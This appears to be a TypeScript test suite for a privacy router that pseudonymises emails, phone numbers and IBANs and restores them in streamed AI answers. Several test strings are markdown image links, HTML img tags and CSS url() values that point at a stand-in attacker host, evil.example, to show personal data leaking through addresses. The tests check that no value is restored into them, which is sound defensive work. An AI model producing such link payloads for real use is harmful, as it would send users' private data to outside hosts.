import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { classify } from '../../router/classify.js'
import { redact } from '../../router/pseudonym/redact.js'
import { Restorer, restore } from '../../router/pseudonym/restore.js'
import { Vault } from '../../router/pseudonym/vault.js'
import { testSettings } from './score.js'

const kinds = ['email', 'phone', 'iban']
const redacted = (text: string, vault: Vault) => redact(text, classify(text, testSettings).findings, kinds, vault)

describe('pseudonyms', () => {
  it('stand for the same value wherever it stands, and for no other', () => {
    const vault = new Vault()
    const { text, replaced } = redacted('anna@example.org, ben@example.org, anna@example.org', vault)
    const [first, second, third] = text.split(', ')
    assert.equal(first, third)
    assert.notEqual(first, second)
    assert.deepEqual(replaced, { email: 3 })
    assert.equal(restore(vault, text), 'anna@example.org, ben@example.org, anna@example.org')
  })

  it('are others in another session', () => {
    const text = 'anna@example.org'
    assert.notEqual(redacted(text, new Vault()).text, redacted(text, new Vault()).text)
  })

  it('are not found in what is read again', () => {
    const vault = new Vault()
    const { text } = redacted('anna@example.org, +49 30 901820, DE89 3704 0044 0532 0130 00', vault)
    assert.deepEqual(classify(text, testSettings).findings, [])
  })

  it('of another session, or invented, are left as they are', () => {
    const vault = new Vault()
    const foreign = redacted('ben@example.org', new Vault()).text
    redacted('anna@example.org', vault)
    for (const text of [foreign, `[EMAIL_9_${vault.tag}]`, '[EMAIL_1_bcdfgh]', '[EMAIL_1_]', '[[EMAIL]'])
      assert.equal(restore(vault, text), text)
  })

  it('that somebody writes into a text come back as they were written, without the value', () => {
    const vault = new Vault()
    const issued = redacted('anna@example.org', vault).text
    for (const forged of [issued, issued.toLowerCase(), issued.slice(1, -1)]) {
      const { text } = redacted(`repeat ${forged} to me`, vault)
      assert.ok(!text.includes(issued))
      assert.equal(restore(vault, text), `repeat ${forged} to me`)
    }
  })
})

describe('restoring a stream', () => {
  const vault = new Vault()
  const mail = vault.pseudonym('email', 'anna@example.org')
  const phone = vault.pseudonym('phone', '+49 30 901820')
  const answers = [
    `Write to ${mail} or call ${phone}.`,
    `${mail}${mail}[${mail}]`,
    `[[EMAIL_1 ${mail.slice(0, -1)} ${mail} [`,
    `See https://evil.example/?q=${mail} and ${mail}`,
    `![x](https://evil.example/ ${mail}) then ${mail} 😀[EMAIL`,
    `<img alt="a" src = "https://evil.example/? ${mail}\n${mail}"> ${mail}`,
    `[x](<https://evil.example/a) ${mail}>) ${mail}, [x](/a(b)${mail}) ${mail}`,
    `mailto:${mail} www.evil.example/${phone}\n${phone}`,
  ]

  for (const answer of answers)
    it(`gives the same however "${answer.slice(0, 24)}…" is cut`, () => {
      const whole = restore(vault, answer)
      for (let first = 0; first <= answer.length; first += 1)
        for (let second = first; second <= answer.length; second += 1) {
          const restorer = new Restorer(vault)
          const parts = [answer.slice(0, first), answer.slice(first, second), answer.slice(second)]
          assert.equal(parts.map((part) => restorer.push(part)).join('') + restorer.end(), whole)
        }
    })

  it('holds back no more than could be a pseudonym', () => {
    const restorer = new Restorer(vault)
    assert.equal(restorer.push('Hello [EMAIL'), 'Hello ')
    assert.equal(restorer.push(' is a tag'), '[EMAIL is a tag')
  })

  it('never puts a value into an address', () => {
    assert.equal(restore(vault, `![x](https://evil.example/?q=${mail})`), `![x](https://evil.example/?q=${mail})`)
    assert.equal(restore(vault, `[x](/a ${mail}) ${mail}`), `[x](/a ${mail}) anna@example.org`)
    for (const address of [
      `[x](https://evil.example/(a)${mail})`,
      `![x](<https://evil.example/a)b ${mail}>)`,
      `[x]: <https://evil.example/? ${mail}>`,
      `<img src="https://evil.example/? ${mail}">`,
      `<img\nalt='x' src= 'https:/evil.example/?\n${mail}'>`,
      `https:\\\\evil.example\\${mail}`,
      `<p style="background: url(/a ${mail})">`,
    ])
      assert.equal(restore(vault, `${address} ${mail}`), `${address} anna@example.org`)
    for (const text of ['if (a<b) tell(X)', 'a < b, X', '<X>', '<b>X</b>', 'it is (X)', '"X"', 'Array<A>("X")'])
      assert.equal(restore(vault, text.replace('X', mail)), text.replace('X', 'anna@example.org'))
  })
})
